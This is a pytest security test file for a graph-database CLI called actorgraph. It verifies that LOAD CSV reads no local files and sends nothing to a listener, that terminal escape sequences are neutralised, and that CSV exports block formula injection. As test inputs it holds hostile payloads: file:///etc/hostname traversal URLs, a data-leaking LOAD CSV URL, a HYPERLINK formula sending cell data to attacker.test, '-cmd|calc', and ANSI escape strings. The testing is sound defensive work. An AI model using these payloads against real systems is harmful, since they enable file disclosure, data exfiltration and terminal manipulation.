"""Nothing read, sent or run that the user did not mean (issue 16, first part): LOAD CSV reads
no file and reaches no address, and a shared query folder cannot take a built-in's name."""

from __future__ import annotations

import http.server
import json
import os
import threading
from pathlib import Path

import pytest

from graph import Graph, View

from .conftest import data_snapshot, run_cli, snapshot


def test_load_csv_reads_no_local_file_even_with_write(panjshir: Graph, neo4j_server) -> None:  # type: ignore[no-untyped-def]
    password = neo4j_server.password_file
    for statement in (
        "LOAD CSV FROM 'file:///etc/hostname' AS l RETURN l",
        f"LOAD CSV FROM 'file://{password}' AS l RETURN l",
        "LOAD CSV FROM 'file:///../../etc/hostname' AS l RETURN l",
    ):
        plain = run_cli("query", statement)
        assert plain.returncode == 2 and "uses LoadCSV" in plain.stderr, plain.stderr
        written = run_cli("query", "--write", statement)
        assert written.returncode == 2, written.stdout
        assert "allow_csv_import_from_file_urls" in written.stderr
        assert neo4j_server.password_file.read_text().strip() not in written.stdout + written.stderr
    read_only = run_cli(
        "--read-only", "query", "LOAD CSV FROM 'file:///etc/hostname' AS l RETURN l"
    )
    assert read_only.returncode == 1 and "read-only mode" in read_only.stderr


def test_load_csv_sends_nothing_to_a_listener(panjshir: Graph) -> None:
    heard: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"a,b\n")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_port}/?d="
        statement = f"MATCH (a:Actor) WITH collect(a.id) AS ids LOAD CSV FROM '{url}' + ids[0] AS l RETURN l"
        result = run_cli("query", "--write", statement)
        assert result.returncode == 2 and "cypher_ip_blocklist" in result.stderr
    finally:
        server.shutdown()
    assert heard == []


def test_a_query_folder_cannot_take_a_built_in_name(panjshir: Graph, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "supporters-of.cypher").write_text(
        "// Who supports an actor.\n// @param actor: entity  the actor\nMATCH (n) RETURN n.id AS id\n"
    )
    result = run_cli(
        "query", "--queries-dir", str(shared), "-n", "supporters-of", "-p", "actor=NRF"
    )
    assert result.returncode == 2
    assert "'supporters-of' is already actorgraph's own query" in result.stderr
    (shared / "supporters-of.cypher").rename(shared / "my-supporters.cypher")
    listed = run_cli("queries", "--queries-dir", str(shared))
    assert listed.returncode == 0 and str(shared) in listed.stdout and "actorgraph" in listed.stdout


def test_a_trailing_newline_never_passes_a_check(tmp_path: Path) -> None:
    import pytest

    from graph.errors import VocabularyError
    from graph.vocabulary import load_vocabulary

    for body in (
        'terms:\n  bribes:\n    type: "BRIBES\\n"\n    sign: -1\n    from: [actor]\n    to: [actor]\n',
        'actor_kinds:\n  spy: "Spy\\n"\n',
        'terms:\n  "bribes\\n":\n    type: BRIBES\n    sign: -1\n    from: [actor]\n    to: [actor]\n',
        "actor_kinds:\n  lock: LoadLock\n",
    ):
        path = tmp_path / "extra.yaml"
        path.write_text(body)
        with pytest.raises(VocabularyError):
            load_vocabulary(path)


HOSTILE_NAME = "Evil\x1b]0;TITLE\x07\x1b[2J\u202eGroup [/x] [link=https://x.test]y[/link]"


def test_no_string_from_data_drives_the_terminal(db: Graph, tmp_path: Path) -> None:
    path = tmp_path / "hostile.yaml"
    name = HOSTILE_NAME.replace("\x1b", "\\e").replace("\x07", "\\a").replace("\u202e", "\\u202E")
    path.write_text(
        f'dataset: hostile\nsources:\n  - {{id: s, title: "T \\e[31m", reliability: C}}\n'
        f'actors:\n  - {{id: evil, name: "{name}", kind: armed_group}}\n'
        "  - {id: other, name: Other, kind: armed_group}\n"
        "relations:\n  - {from: evil, term: fights, to: other, claimant: other, sources: [s],\n"
        "     evidence: \"x \\e[2J\", credibility: 3, confidence: 0.5, since: '2021'}\n"
    )
    outputs = [
        run_cli("validate", str(path)),
        run_cli("load", str(path)),
        run_cli("resolve", "evil"),
        run_cli("query", "MATCH (a:Actor) RETURN a.name AS name, a AS node"),
        run_cli("analyze", "timeline"),
        run_cli("analyze", "balance"),
        run_cli("datasets", "list"),
        run_cli("resolve", "Evil\x1b[2J"),  # not found: the error quotes it
    ]
    for result in outputs:
        shown = result.stdout + result.stderr
        assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown, shown
        assert "Traceback" not in shown and result.returncode in (0, 2), shown
    assert "Evil\\x1b]0;TITLE\\x07\\x1b[2J\\u202eGroup [/x]" in outputs[2].stdout
    assert "Evil\\x1b" in outputs[3].stdout and "Evil\\x1b" in outputs[4].stdout


def on_a_terminal(*args: str) -> str:
    """What the real `actorgraph` prints when its output is a terminal (a pseudo-terminal)."""
    import pty
    import sys

    pid, fd = pty.fork()
    if pid == 0:  # the child: the command, its stdout the terminal
        os.execvpe(sys.executable, [sys.executable, "-m", "graph", *args], os.environ)
    out = b""
    while True:
        try:
            chunk = os.read(fd, 65536)
        except OSError:  # the command ended: the terminal closed
            break
        if not chunk:
            break
        out += chunk
    os.waitpid(pid, 0)
    return out.decode()


def test_a_terminal_shows_the_first_rows_and_counts_the_rest(panjshir: Graph) -> None:
    """Not a security matter, but this file has the terminal: 88,347 rows took 110 s to print
    there. Redirected, or with --limit, every row is written."""
    statement = "UNWIND range(1, 150) AS i RETURN i"
    shown = on_a_terminal("query", statement, "--format", "table")
    assert "… and 50 more, not shown on a terminal" in shown and "150 rows" in shown
    assert " 100 " in shown.replace("\r\n", " ") and " 101 " not in shown.replace("\r\n", " ")
    assert "more" not in on_a_terminal("query", statement, "--format", "table", "--limit", "150")
    none = run_cli("query", statement, "--limit", "0", "--format", "json").stdout
    assert json.loads(none)["rows"] == []  # it gave one row
    piped = run_cli("query", statement, "--format", "table").stdout
    assert "150 rows" in piped and "more" not in piped and "\n150" in piped


def test_csv_and_json_rows_shown_on_a_terminal_drive_nothing(panjshir: Graph) -> None:
    """Written to a file or a pipe they are the data as it is; on a terminal, text."""
    statement = "RETURN 'a\x1b[2Jb\u202e' AS x"
    for fmt in ("csv", "json", "jsonl"):
        shown = on_a_terminal("query", statement, "--format", fmt)
        assert "\x1b" not in shown and "\u202e" not in shown, (fmt, shown)
    assert "a\\x1b[2Jb\\u202e" in on_a_terminal("query", statement, "--format", "csv")
    # JSON on a terminal stays JSON: its own escapes, read back as the characters
    on_screen = on_a_terminal("query", "RETURN 'a\x1b\x7fb\u202e' AS x", "--format", "json")
    assert json.loads(on_screen[on_screen.index("{") :])["rows"] == [{"x": "a\x1b\x7fb\u202e"}]
    piped = run_cli("query", statement, "--format", "csv").stdout
    assert piped == "x\na\x1b[2Jb\u202e\n"


def test_write_says_what_changed_and_json_stays_json(panjshir: Graph) -> None:
    import json

    written = run_cli("query", "--write", "CREATE (:Scratch {a: 1})")
    assert (
        written.returncode == 0
        and "Changed: nodes created 1, properties set 1, labels added 1." in written.stderr
    )
    none = run_cli("query", "--write", "MATCH (n:Nothing) DELETE n")
    assert none.returncode == 0 and "Nothing changed." in none.stderr
    panjshir.write("MATCH (n:Scratch) DELETE n")
    nan = run_cli("query", "RETURN 0.0 / 0.0 AS x, [1.0 / 0.0] AS y", "-o", "json")
    assert nan.returncode == 0 and json.loads(nan.stdout)["rows"] == [{"x": None, "y": [None]}]
    for param in ("x:int=" + "9" * 30, "x:json=" + "[" * 5000 + "]" * 5000):
        huge = run_cli("query", "RETURN $x AS x", "-p", param)
        assert huge.returncode == 2 and "internal error" not in huge.stderr, huge.stderr


def test_one_bad_file_in_a_query_folder_leaves_the_others_usable(
    panjshir: Graph, tmp_path: Path
) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "count-actors.cypher").write_text(
        "// How many actors.\nMATCH (a:Actor) RETURN count(a) AS n\n"
    )
    (mine / "Bad Name.cypher").write_text("// Oops.\nRETURN 1\n")
    (mine / "broken.cypher").write_text("// Broken header.\n// @param x: wrongtype\nRETURN $x\n")
    good = run_cli("query", "--queries-dir", str(mine), "-n", "count-actors", "-o", "json")
    assert good.returncode == 0 and '"n": 25' in good.stdout, good.stderr
    listed = run_cli("queries", "--queries-dir", str(mine))
    assert listed.returncode == 0 and "count-actors" in listed.stdout
    assert "left out:" in listed.stderr and "Bad Name.cypher" in listed.stderr
    broken = run_cli("query", "--queries-dir", str(mine), "-n", "broken")
    assert broken.returncode == 2 and "could not be read" in broken.stderr


def test_a_refused_csv_export_leaves_nothing_behind(tmp_path: Path) -> None:
    import pytest

    from graph.errors import ExportError
    from graph.exchange import write

    view = View(
        nodes=[{"id": "a", "name": "A", "category": "actor", "kind": "person", "aliases": ["x;y"]}],
        edges=[],
    )
    out = tmp_path / "csv"
    with pytest.raises(ExportError, match="contains ';'"):
        write(view, "csv", out)
    assert not out.exists()  # every cell is checked before a folder or file is made


def test_csv_cells_never_run_as_formulas_and_load_back_as_written(
    db: Graph, tmp_path: Path
) -> None:
    import csv as csvlib

    from graph.loader import load

    formula = '=HYPERLINK("http://attacker.test/?d="&A1,"click")'
    path = tmp_path / "f.yaml"
    path.write_text(
        "dataset: f\nsources:\n  - {id: s, title: '@SUM(1+1)', reliability: C}\n"
        f"actors:\n  - {{id: a, name: '{formula.replace(chr(39), chr(39) * 2)}', kind: person,"
        " aliases: ['-cmd|calc', \"'=quoted\"]}\n"
        "  - {id: b, name: Bravo, kind: person}\n"
        "places:\n  - {id: p, name: Place, kind: area, latitude: -33.5, longitude: -70.6}\n"
        "relations:\n  - {from: a, term: opposes, to: b, claimant: b, sources: [s],"
        " evidence: '+1 more', credibility: 3, confidence: 0.5}\n"
    )
    load(db, [path])
    before = data_snapshot(db)
    out = tmp_path / "csv"
    assert run_cli("export", "-o", "csv", "--out", str(out)).returncode == 0
    cells = [c for f in out.glob("*.csv") for row in csvlib.reader(f.open()) for c in row]
    assert all(not c.startswith(("=", "+", "@")) for c in cells)
    assert "'" + formula in cells and "-33.5" in cells  # numbers stay numbers
    db.write("MATCH (n) WHERE NOT n:LoadLock DETACH DELETE n")
    load(db, [out], dataset="f")
    after = data_snapshot(db)
    assert after == before
    safe = run_cli("query", "MATCH (a:Actor) RETURN a.name AS name", "-o", "csv")
    assert safe.stdout.splitlines()[1].startswith("\"'=HYPERLINK")
    raw = run_cli("query", "MATCH (a:Actor) RETURN a.name AS name", "-o", "csv", "--csv-raw")
    assert raw.stdout.splitlines()[1].startswith('"=HYPERLINK')


NOT_UTF8 = os.fsdecode(b"Tal\xff\xfeiban")  # as the shell hands over bytes that are not UTF-8


@pytest.mark.parametrize(
    "args",
    [
        ["resolve", NOT_UTF8],
        ["query", "-n", "relations-of", "-p", f"actor={NOT_UTF8}"],
        ["query", "RETURN $x AS x", "-p", f"x={NOT_UTF8}"],
        ["render", "--title", NOT_UTF8],
        ["load", "--dataset", NOT_UTF8, "data/panjshir.yaml"],
        ["query", "RETURN $x AS x", "--param-json", 'x="\\ud800"'],  # a JSON lone surrogate
        ["info", "--uri", "bolt://[bold]x:1"],
        ["info", "--uri", "bolt://[::1"],
        ["info", "--uri", "bolt://bob:secret@h:abc"],  # the password is not echoed
        ["info", "--uri", "bolt://bob:se@secret@h:abc"],  # nor any of it, an @ in it
        ["info", "--uri", "bolt://:7687"],
        ["info", "--uri", os.fsdecode(b"bolt://\xff:1")],
    ],
)
def test_arguments_that_are_no_text_or_no_uri_are_bad_input(panjshir: Graph, args: list) -> None:
    """Bytes that are not UTF-8, a lone surrogate and URIs that name no host and port are bad
    input (exit 2, one clear line that drives no terminal), not an internal error."""
    before = snapshot(panjshir)
    result = run_cli(*args)
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert result.stderr.startswith("error: ") and "Traceback" not in result.stderr
    assert "\x1b" not in result.stderr
    if "[bold]" in " ".join(args):  # shown as written, not read as Rich markup
        assert "[bold]x" in result.stderr
    assert "secret" not in result.stderr
    assert snapshot(panjshir) == before


def test_a_source_title_without_letters_or_digits_stands_for_nothing(panjshir: Graph) -> None:
    """A mangled ACLED source cell once made a source titled '---', which every name without
    letters or digits ('???', '', an emoji) then resolved to."""
    from graph.errors import QueryError
    from graph.query import resolve_source

    panjshir.write("CREATE (:Source {id: 'junk', title: '---', dataset: 'panjshir'})")
    for ref in ("???", "", "🔥", "\u202e"):
        with pytest.raises(QueryError, match="No source"):
            resolve_source(panjshir, ref)
    assert resolve_source(panjshir, "junk") == "junk"


def test_the_terminal_shows_dari_joiners_and_escapes_what_acts() -> None:
    from graph.cli.output import shown

    dari = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # a zero-width non-joiner word
    assert (
        shown(dari) == dari and shown("\U0001f468\u200d\U0001f469") == "\U0001f468\u200d\U0001f469"
    )
    assert shown("a\u202eb\u200bc\x1b[31m") == "a\\u202eb\\u200bc\\x1b[31m"


def test_a_huge_value_quoted_back_in_an_error_is_cut_in_its_middle(panjshir: Graph) -> None:
    """A 100,000-character parameter came back whole in the error, screens of it."""
    result = run_cli("query", "-n", "relations-of", "-p", "actor=" + "A" * 100_000)
    said = " ".join(result.stderr.split())
    assert result.returncode == 2 and len(result.stderr) < 5000, len(result.stderr)
    assert said.startswith("error: ") and "characters left out" in said
